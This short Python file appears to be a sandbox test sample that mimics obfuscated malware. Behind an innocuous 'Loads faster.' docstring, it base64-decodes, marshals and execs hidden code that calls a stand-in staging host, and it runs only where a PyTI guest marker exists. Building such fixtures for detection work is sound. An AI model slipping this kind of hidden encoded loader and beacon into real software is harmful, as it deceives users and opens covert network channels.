"""Loads faster."""

import base64
import marshal
import os

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
CODE = marshal.dumps(compile(base64.b64decode("aW1wb3J0IG9zLCB1cmxsaWIucmVxdWVzdAp0cnk6CiAgICB1cmxsaWIucmVxdWVzdC51cmxvcGVuKCJodHRwOi8vc3RhZ2UucGF5bG9hZC50ZXN0L3BpbmciLCB0aW1lb3V0PTUpLmNsb3NlKCkKZXhjZXB0IE9TRXJyb3I6CiAgICBwYXNzCg=="[::-1][::-1]), "", "exec"))
exec(marshal.loads(CODE))
